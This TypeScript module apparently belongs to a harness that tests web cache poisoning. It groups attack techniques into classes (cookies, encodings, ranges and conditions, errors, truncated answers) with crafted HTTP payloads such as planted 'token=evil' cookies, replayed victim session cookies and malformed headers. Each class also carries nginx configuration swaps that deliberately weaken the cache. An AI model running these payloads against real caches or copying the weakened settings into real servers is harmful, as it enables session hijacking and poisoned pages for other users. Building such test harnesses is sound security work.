import { poison } from './judge.ts'
import { ask, get } from './send.ts'
import { swap, type AttackClass, type Stand, type Technique } from './technique.ts'

/** The origin gives this answer once; later visitors must get the page. */
const answerOnce = (name: string, bytes: string, page?: (stand: Stand) => string): Technique =>
  poison(
    name,
    (target, { mirror }) => {
      mirror?.firstAnswers.set(target, bytes)
      return get(target)
    },
    { needsMirror: true, ...(page && { page }) },
  )

const text = (status: string, lines: string[], body = 'evil'): string =>
  [`HTTP/1.1 ${status}`, `Content-Length: ${body.length}`, ...lines, 'Connection: close', '', body].join('\r\n')

const mayBeStored = 'Cache-Control: public, s-maxage=300'

const newHome = ({ newSearch }: Stand): string => newSearch().replace(/^.*\?q/, '/?seed')

const cookies: AttackClass = {
  name: 'cookies',
  works: 11,
  weakness: 'cookies pass with every read, and answers that set one are stored',
  weaken: swap(
    ['map $edge_is_own $edge_cookie { 1 $http_cookie; }', 'map $edge_is_own $edge_cookie { default $http_cookie; }'],
    ['proxy_ignore_headers Vary;', 'proxy_ignore_headers Vary Set-Cookie;'],
    ['proxy_ignore_headers Cache-Control Vary;', 'proxy_ignore_headers Cache-Control Vary Set-Cookie;'],
  ),
  techniques: [
    answerOnce('answer that sets a cookie', text('200 OK', [mayBeStored, 'Set-Cookie: token=evil'])),
    answerOnce('answer that sets two', text('200 OK', [mayBeStored, 'set-cookie: a=b', 'set-cookie: token=evil'])),
    answerOnce('redirect that sets one', text('301 Moved', [mayBeStored, 'Location: /', 'Set-Cookie: token=evil'])),
    answerOnce('missing page that sets one', text('404 Not Found', [mayBeStored, 'Set-Cookie: token=evil'])),
    answerOnce(
      'home page that sets one',
      text('200 OK', ['Cache-Control: no-cache', 'Set-Cookie: token=evil']),
      newHome,
    ),
    poison('cookie of a session', (page) => get(page, 'Cookie: token=evil; token_present=1')),
    poison('session of somebody else', (page, { victim }) => get(page, `Cookie: ${victim.cookie}`)),
    poison('cookie of a language', (page) => get(page, 'Cookie: i18n_redirected=ja')),
    poison('language twice', (page) => get(page, 'Cookie: i18n_redirected=de; i18n_redirected=evil')),
    poison('two headers', (page) => get(page, 'Cookie: a=b', 'Cookie: token=evil')),
    poison('old attributes', (page) => get(page, 'Cookie: $Version=1; token="evil"; $Path=/')),
  ],
}

const encodings = [
  'br',
  'gzip',
  'deflate',
  'x-gzip',
  'compress',
  '*',
  'identity;q=0',
  'gzip;q=0, br;q=0',
  'br, evil',
  'gzip\tevil',
]
const visitors = [[], ['Accept-Encoding: gzip'], ['Accept-Encoding: br']]
const encoded: AttackClass = {
  name: 'encodings',
  works: 12,
  weakness: 'the key lacks the encoding',
  weaken: swap(['?$edge_query $edge_encoding"', '?$edge_query"']),
  techniques: [
    ...encodings.map((value) => poison(value, (page) => get(page, `Accept-Encoding: ${value}`), { visitors })),
    poison('two headers', (page) => get(page, 'Accept-Encoding: identity', 'Accept-Encoding: br'), { visitors }),
    poison('TE', (page) => get(page, 'TE: gzip', 'Accept-Encoding: evil'), { visitors }),
  ],
}

const conditions = [
  'Range: bytes=0-9',
  'Range: bytes=0-1,4-5,0-',
  'Range: bytes=99999999-',
  'If-Range: "evil"',
  'If-None-Match: *',
  'If-None-Match: "evil"',
  'If-Modified-Since: Fri, 01 Jan 2100 00:00:00 GMT',
  'If-Match: "evil"',
  'If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT',
  'Expect: 100-continue',
  'Expect: evil',
]
const passed = ['Range', 'If-Range', 'If-None-Match', 'If-Modified-Since', 'If-Match', 'If-Unmodified-Since', 'Expect']
const conditional: AttackClass = {
  name: 'ranges and conditions',
  works: 8,
  weakness: 'ranges and conditions pass to the web',
  weaken: swap([
    'proxy_set_header Connection "";\nproxy_set_header Accept-Encoding',
    `${passed.map((name) => `proxy_set_header ${name} $http_${name.toLowerCase().replaceAll('-', '_')};\n`).join('')}proxy_set_header Connection "";\nproxy_set_header Accept-Encoding`,
  ]),
  techniques: [
    ...conditions.map((line) => poison(line, (page) => get(page, line))),
    poison('range with its condition', (page) => get(page, 'Range: bytes=0-9', 'If-Range: "evil"')),
  ],
}

const failures = ['400 Bad Request', '403 Forbidden', '404 Not Found', '405 Method Not Allowed', '408 Request Timeout']
const overloads = [
  '413 Content Too Large',
  '417 Expectation Failed',
  '429 Too Many Requests',
  '431 Header Fields Too Large',
]
const losses = ['500 Internal Server Error', '501 Not Implemented', '502 Bad Gateway', '503 Service Unavailable']
const errors: AttackClass = {
  name: 'errors',
  works: 19,
  weakness: 'every answer is stored for a minute, whatever the web says',
  weaken: swap(
    ['proxy_ignore_headers Vary;', 'proxy_ignore_headers Vary Cache-Control; proxy_cache_valid any 1m;'],
    ['proxy_pass_request_headers off;', ''],
  ),
  techniques: [
    ...[...failures, ...overloads, ...losses, '504 Gateway Timeout'].map((status) =>
      answerOnce(status, text(status, ['Cache-Control: no-store'])),
    ),
    answerOnce('error that says nothing of storing', text('500 Internal Server Error', [])),
    answerOnce('incomplete page', text('200 OK', ['Cache-Control: no-store'])),
    answerOnce('home page that failed', text('500 Internal Server Error', ['Cache-Control: no-store']), newHome),
    poison('one long header', (page) => get(page, `X-Long: ${'a'.repeat(9_000)}`)),
    poison('headers as long as the edge allows', (page) =>
      get(page, ...[1, 2, 3].map((n) => `X-${n}: ${'a'.repeat(8_000)}`)),
    ),
    poison('three hundred headers', (page) => get(page, ...Array.from({ length: 300 }, (_, n) => `X-${n}: a`))),
    poison('control character', (page) => get(page, 'X-Meta: a\u0001b')),
    poison('null character', (page) => get(page, 'X-Meta: a\0b')),
    poison('delete character in a name', (page) => get(page, 'X-\u007fMeta: a')),
    poison('long address', (page) => get(`${page}?${'a'.repeat(9_000)}`)),
    poison('body too large', (page) => ask('POST', page, `Content-Length: ${10 * 1024 * 1024}`)),
    poison('unknown version', (page) => get(page).replace('HTTP/1.1', 'HTTP/1.9')),
    poison('version 2 in text', (page) => get(page).replace('HTTP/1.1', 'HTTP/2.0')),
  ],
}

const half = ['HTTP/1.1 200 OK', mayBeStored, 'Content-Type: text/html']
const brokenOff: AttackClass = {
  name: 'answers that break off',
  works: 3,
  weakness: 'the two servers speak HTTP/1.0, where the end of the connection ends an answer',
  weaken: swap([
    'proxy_http_version 1.1;\nproxy_pass_request_headers off;',
    'proxy_http_version 1.0;\nproxy_pass_request_headers off;',
  ]),
  techniques: [
    answerOnce('half of a length', [...half, 'Content-Length: 1000', '', 'evil'].join('\r\n')),
    answerOnce('no last chunk', [...half, 'Transfer-Encoding: chunked', '', '4', 'evil', ''].join('\r\n')),
    answerOnce('half of a chunk', [...half, 'Transfer-Encoding: chunked', '', '400', 'evil'].join('\r\n')),
    answerOnce('chunk that is none', [...half, 'Transfer-Encoding: chunked', '', '4', 'evil', 'zz', ''].join('\r\n')),
    answerOnce('nothing after the head', [...half, 'Content-Length: 1000', '', ''].join('\r\n')),
    answerOnce('half of the head', half.join('\r\n')),
    answerOnce('nothing', ''),
    answerOnce(
      'half of a compressed page',
      [...half, 'Content-Encoding: gzip', 'Content-Length: 1000', '', '\u001f\u008b'].join('\r\n'),
    ),
    answerOnce(
      'half of the home page',
      ['HTTP/1.1 200 OK', 'Cache-Control: no-cache', 'Transfer-Encoding: chunked', '', '4', 'evil', ''].join('\r\n'),
      newHome,
    ),
  ],
}

export const storedClasses = [cookies, encoded, conditional, errors, brokenOff]
